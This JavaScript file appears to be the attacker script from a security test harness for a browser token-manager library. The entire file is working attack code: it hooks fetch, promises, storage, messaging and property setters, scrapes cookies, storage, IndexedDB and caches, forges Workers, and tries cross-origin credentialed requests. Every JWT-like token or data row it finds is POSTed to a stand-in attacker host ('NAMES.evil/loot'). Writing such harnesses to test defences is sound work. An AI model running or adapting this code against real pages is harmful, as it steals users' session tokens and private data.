/* global NAMES, lib */
/**
 * The attacker's script, in the page of the application or in the attacker's own. It sends its findings to the attacker's
 * server: anything that looks like a token, or like rows of Cube.
 */

/** The original built-ins. */
const native = { fetch: window.fetch, Worker: window.Worker, Promise, setTimeout: window.setTimeout };
const { apply } = Reflect;
const { then } = Promise.prototype;
const { match } = String.prototype;
const { decode } = TextDecoder.prototype;
const decoder = new TextDecoder();
const later = (ms) => new native.Promise((go) => native.setTimeout.call(window, go, ms));

const TOKENS = /eyJ[\w-]+\.[\w-]+\.[\w-]+/g;
const ROWS = /"?Things\.count"?: ?"?\d+"?/g;
const CHANNELS = [
  "cube.token",
  "cube.token:/token",
  "cube-token-manager",
  "cube-token-manager:cube.token:/token",
];
const sent = {};
const pending = [];
let busy = false;
let budget = 0;

/** Any value as text. */
function text(value, depth = 0) {
  if (typeof value === "string") return value;
  if (typeof value !== "object" || value === null || depth > 7 || budget-- < 0) return String(value);
  try {
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return apply(decode, decoder, [value]);
    if (value instanceof Headers || value instanceof Map || value instanceof Set)
      return text([...value], depth + 1);
    if (value instanceof Request || value instanceof Response)
      return `${value.url} ${text(value.headers, depth + 1)}`;
    if (value instanceof Error)
      return `${value.message} ${value.stack} ${text({ ...value }, depth + 1)} ${text(value.cause, depth + 1)}`;
    if (value instanceof MessageEvent) return text(value.data, depth + 1);
    let all = "";
    for (const key of Reflect.ownKeys(value)) {
      all += `${String(key)}: ${text(Reflect.getOwnPropertyDescriptor(value, key)?.value, depth + 1)}\n`;
    }
    return all;
  } catch (error) {
    return String(error);
  }
}

/** Searches values, and sends each finding home once. */
function see(values, wanted = [TOKENS, ROWS]) {
  if (busy) return;
  busy = true;
  budget = 800;
  try {
    const all = text(values);
    for (const pattern of wanted) {
      for (const found of apply(match, all, [pattern]) ?? []) {
        if (sent[found]) continue;
        sent[found] = true;
        pending[pending.length] = native.fetch.call(window, `${NAMES.evil}/loot`, {
          method: "POST",
          mode: "no-cors",
          body: found,
        });
      }
    }
  } finally {
    busy = false;
  }
}

/** Replaces a function by one that exposes its arguments and results. */
function tap(target, name) {
  const original = target?.[name];
  if (typeof original !== "function") return;
  target[name] = function (...args) {
    see(args);
    const result = new.target ? Reflect.construct(original, args, new.target) : apply(original, this, args);
    see([result]);
    if (result instanceof native.Promise) apply(then, result, [(value) => see([value]), () => {}]);
    return result;
  };
  if (original.prototype) target[name].prototype = original.prototype;
}

/** Changes the page's built-ins. */
function hook() {
  const { fetch } = window;
  window.fetch = async (...args) => {
    see(args);
    const response = await fetch(...args);
    see([response, await response.clone().text()]);
    return response;
  };
  for (const name of ["Request", "Headers", "structuredClone", "atob", "BroadcastChannel"]) tap(window, name);
  for (const [type, ...names] of [
    [XMLHttpRequest, "open", "send", "setRequestHeader"],
    [WebSocket, "send"],
    [MessagePort, "postMessage"],
    [Worker, "postMessage"],
    [BroadcastChannel, "postMessage"],
    [Headers, "set", "append", "get"],
    [Response, "text", "json", "arrayBuffer"],
    [Storage, "setItem", "getItem"],
    [IDBObjectStore, "put", "get"],
    [Map, "get", "set"],
    [String, "split", "slice"],
  ]) {
    for (const name of names) tap(type.prototype, name);
  }
  for (const name of ["parse", "stringify"]) tap(JSON, name);
  for (const name of ["assign", "entries", "fromEntries"]) tap(Object, name);
  // biome-ignore lint/suspicious/noThenProperty: that is the attack.
  Promise.prototype.then = function (done, failed) {
    const record = (next) =>
      typeof next === "function"
        ? (value) => {
            see([value]);
            return next(value);
          }
        : next;
    return apply(then, this, [record(done), record(failed)]);
  };
  const add = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, ...rest) {
    const own =
      typeof listener === "function"
        ? function (event) {
            see([event]);
            return apply(listener, this, [event]);
          }
        : listener;
    return apply(add, this, [type, own, ...rest]);
  };
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
  Object.defineProperty(MessageEvent.prototype, "data", {
    ...data,
    get() {
      const value = apply(data.get, this, []);
      see([value]);
      return value;
    },
  });
  for (const name of ["token", "authorization", "Authorization", "access_token"]) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        see([value]);
        Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
      },
    });
  }
}

/** A worker with the application's script and the attacker's fetch. */
class ForgedWorker extends native.Worker {
  constructor(url, options) {
    const source = `
      const real = fetch;
      const tell = (body) => real("${NAMES.evil}/loot", { method: "POST", mode: "no-cors", body });
      self.fetch = async (input, init) => {
        const url = new URL(input.url ?? input, "${location.origin}");
        const headers = new Headers(init?.headers ?? input.headers);
        tell(JSON.stringify([...headers]));
        const response = await real(url, { ...init, headers });
        tell(await response.clone().text());
        return response;
      };
      importScripts("${new URL(url, location.href)}");
    `;
    super(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), options);
  }
}

/** Asks the application's worker for rows, as its page does. */
function askWorker(worker, wanted) {
  const { port1, port2 } = new MessageChannel();
  return new native.Promise((resolve) => {
    port1.onmessage = (event) => {
      const [type] = event.data;
      if (type === "hello") {
        const params = JSON.stringify({ query: { measures: ["Things.count"] } });
        port1.postMessage(["send", 1, "load", params, false]);
      }
      see([event.data], wanted);
      if (type === "answer" || type === "failure") resolve();
    };
    worker.onerror = resolve;
    worker.postMessage(["cube-token-manager/isolated/1", "mine", port2], [port2]);
    native.setTimeout.call(window, resolve, 2000);
  });
}

const done = (request) =>
  new native.Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
    request.onupgradeneeded = () => request.transaction.abort();
  });

/** Listens to the messages between the application's tabs. */
function listen() {
  for (const name of CHANNELS) new BroadcastChannel(name).onmessage = ({ data }) => see([data]);
  addEventListener("storage", ({ newValue }) => see([newValue]));
}

const attacker = {
  /** Waits until all findings have reached the attacker's server. */
  async flush() {
    await later(0);
    for (let n = 0; n < pending.length; n++) await pending[n].catch(() => {});
  },

  /** Reads every storage, and everything reachable in the page. */
  async read() {
    listen();
    const safely = async (get) => see([await get()]);
    const places = [
      () => document.cookie,
      () => ({ ...localStorage }),
      () => ({ ...sessionStorage }),
      () => [window.name, history.state, location.href, document.referrer],
      () => document.documentElement.outerHTML,
      async () => text(await window.cookieStore?.getAll()),
      async () => {
        for (const { name } of await indexedDB.databases()) {
          const database = await done(indexedDB.open(name));
          for (const store of database.objectStoreNames) {
            see(await done(database.transaction(store).objectStore(store).getAll()));
          }
          database.close();
        }
      },
      async () => {
        for (const key of await caches.keys()) {
          const cache = await caches.open(key);
          for (const request of await cache.keys()) see([await (await cache.match(request)).text()]);
        }
      },
      () => performance.getEntries().map((entry) => entry.toJSON()),
      // The application's globals.
      () => {
        const visited = new Set();
        const walk = (value, depth) => {
          const isObject = typeof value === "object" || typeof value === "function";
          if (!isObject || value === null || visited.has(value) || depth > 5) return;
          visited.add(value);
          for (const key of Reflect.ownKeys(value)) {
            const inner = Reflect.getOwnPropertyDescriptor(value, key)?.value;
            if (typeof inner === "string") see([inner]);
            else if (inner !== window) walk(inner, depth + 1);
          }
        };
        walk(window.app, 0);
      },
    ];
    for (const place of places) await safely(place).catch(() => {});
    await attacker.flush();
  },

  hook,

  /** Forgets the findings, before another attack is measured. */
  reset() {
    for (const found of Object.keys(sent)) delete sent[found];
  },

  /** Uses the application's own code, and takes only the rows. */
  async proxy() {
    const original = window.fetch;
    attacker.stop = () => {
      window.fetch = original;
    };
    window.fetch = async (...args) => {
      if (String(args[0]?.url ?? args[0]).includes("/cubejs-api/")) {
        const response = await original(...args);
        see([await response.text()], [ROWS]);
      }
      return original(...args);
    };
    if ((await original("/cube-worker.js")).ok) await askWorker(new Worker("/cube-worker.js"), [ROWS]);
  },

  /** Asks the endpoint or the page around for a new token, with every secret found in the scripts. */
  async ask() {
    const sources = await Promise.all(
      ["/app.js", `/app.js${location.search}`, "/cube-worker.js"].map((path) =>
        native.fetch.call(window, path).then((response) => response.text()),
      ),
    );
    const secrets = sources.flatMap((source) =>
      [...source.matchAll(/SECRET = "(.+?)"/g)].map(([, secret]) => secret),
    );
    for (const secret of ["", ...secrets]) {
      const headers = { "X-App-Secret": secret, "X-Requested-With": "XMLHttpRequest" };
      // Another attack must not find this answer in the cache.
      see([
        await native.fetch
          .call(window, "/token", { headers, cache: "no-store" })
          .then((answer) => answer.text()),
      ]);
    }
    if (parent !== window) {
      const listener = ({ ports }) => {
        for (const port of ports) port.onmessage = ({ data }) => see([data]);
      };
      addEventListener("message", listener);
      parent.postMessage({ cubeToken: "ask", id: 1 }, "*");
      await later(400);
      removeEventListener("message", listener);
    }
    if (location.search.includes("isolated")) await askWorker(new ForgedWorker("/cube-worker.js"));
    await attacker.flush();
  },

  /** Reads the endpoint's answers from the HTTP cache. The server does not answer these requests, so every answer is cached. */
  async cache() {
    const headers = { "X-Cache-Only": "1" };
    for (const init of [{ cache: "only-if-cached", mode: "same-origin" }, { cache: "force-cache" }]) {
      see([
        await native.fetch
          .call(window, "/token", { ...init, headers })
          .then((answer) => answer.text(), String),
      ]);
      see([
        await native.fetch
          .call(window, "/token", { ...init, headers })
          .then((answer) => answer.text(), String),
      ]);
    }
    await attacker.flush();
  },

  /** What an error tracker sees: the console, errors, and the URLs of requests. */
  track() {
    for (const name of ["log", "debug", "info", "warn", "error"]) tap(console, name);
    addEventListener("error", ({ message, error }) => see([message, error]));
    addEventListener("unhandledrejection", ({ reason }) => see([reason]));
    new PerformanceObserver((list) => see(list.getEntries().map((entry) => entry.toJSON()))).observe({
      type: "resource",
      buffered: true,
    });
  },

  async serviceWorker(script) {
    const registration = await navigator.serviceWorker.register(script);
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    await new native.Promise((resolve) => {
      const check = () => worker.state === "activated" && resolve();
      worker.onstatechange = check;
      check();
      setTimeout(resolve, 5000);
    });
  },

  /** A window of the same origin: the script is added there too. */
  async enter(target) {
    const script = target.document.createElement("script");
    script.src = "/attacker.js";
    await new Promise((resolve) => {
      script.onload = resolve;
      target.document.head.append(script);
    });
    target.attacker.hook();
    await target.app.load();
    await target.app.load();
    await target.attacker.read();
  },

  async enterFrame(way) {
    const frame = document.createElement("iframe");
    frame.src = `/?way=${way}`;
    const loaded = new Promise((resolve) => {
      frame.onload = resolve;
    });
    document.body.append(frame);
    await loaded;
    await attacker.enter(frame.contentWindow);
  },

  /** What another origin can do to a window with its handle. */
  async outside(target) {
    addEventListener("message", ({ data, ports }) => {
      see([data]);
      for (const port of ports) port.onmessage = (event) => see([event.data]);
    });
    for (const get of [
      () => target.document.cookie,
      () => ({ ...target.localStorage }),
      () => ({ ...target.sessionStorage }),
      () => target.app,
      () => target.location.href,
      () => target.name,
    ]) {
      try {
        see([get()]);
      } catch {
        // As the same-origin policy requires.
      }
    }
    const ask = { cubeToken: "ask", id: 1, origin: NAMES.app };
    for (const message of [
      ask,
      { ...ask, cubeToken: "port" },
      "getToken",
      ["cube-token-manager/isolated/1", "x"],
    ]) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => see([data]);
      target.postMessage(message, "*", [port2]);
    }
    await later(250);
    await attacker.read();
  },

  /** The application, or the page around it, in the attacker's frame. */
  async around(way, ...names) {
    for (const name of names) {
      const frame = document.createElement("iframe");
      frame.src = `${NAMES[name]}/?way=${way}`;
      const loaded = new Promise((resolve) => {
        frame.onload = resolve;
      });
      document.body.append(frame);
      await loaded;
      await attacker.outside(frame.contentWindow);
    }
  },

  /** Makes the browser ask the endpoint with the user's cookie, in every way that a page of another site has. */
  async forge() {
    addEventListener("error", (event) => see([event.message]), true);
    for (const origin of [NAMES.app, NAMES.host]) {
      const url = `${origin}/token`;
      for (const init of [{}, { mode: "no-cors" }, { method: "POST", mode: "no-cors" }]) {
        see([
          await fetch(url, { credentials: "include", cache: "no-store", ...init }).then(
            (answer) => answer.text(),
            String,
          ),
        ]);
      }
      for (const tag of ["script", "img", "iframe"]) {
        const element = document.createElement(tag);
        const over = new Promise((resolve) => {
          element.onload = element.onerror = resolve;
        });
        element.src = url;
        document.body.append(element);
        await Promise.race([over, later(1000)]);
        try {
          see([element.contentDocument?.body.textContent]);
        } catch {
          // A frame of another origin.
        }
      }
    }
    await attacker.flush();
  },

  /** Lets this package write its own record, for the application's domain. */
  async toss(way, key) {
    const { get, set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    const domain = new URL(NAMES.app).hostname;
    Object.defineProperty(document, "cookie", {
      get: () => get.call(document),
      set: (value) => set.call(document, `${value}; Domain=${domain}`),
    });
    const { token } = await (await fetch(`${NAMES.evil}/token`)).json().catch(() => ({}));
    const tokens = new lib.CubeTokenManager({
      fetchToken: async () => token,
      storage: (lib.storages[way] ?? lib.memoryStorage)(),
      storageKey: key,
    });
    await tokens.getToken();
    await later(50);
  },
};

window.attacker = attacker;
if (document.currentScript?.dataset.first !== undefined) {
  hook();
  window.Worker = ForgedWorker;
}

const todo = new URLSearchParams(location.search).get("do");
if (todo && location.pathname === "/attacker") {
  const [name, ...args] = todo.split(",");
  const targets = { parent: window.parent, sibling: window.parent.frames[0] };
  Promise.resolve(attacker[name](...args.map((arg) => targets[arg] ?? arg)))
    .catch(() => {})
    .then(attacker.flush)
    .then(() => native.fetch.call(window, `${NAMES.evil}/done`, { method: "POST", mode: "no-cors" }));
}
